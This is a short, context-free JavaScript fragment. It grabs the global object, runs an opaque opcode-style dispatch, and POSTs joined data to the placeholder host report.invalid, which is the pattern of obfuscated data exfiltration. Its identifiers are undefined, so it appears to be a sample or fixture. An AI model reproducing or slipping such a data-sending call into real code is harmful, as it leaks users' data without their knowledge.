const all = globalThis;
keep(all);
table[code[at++]]();
fetch("https://report.invalid/", { method: "POST", body: words.join() });
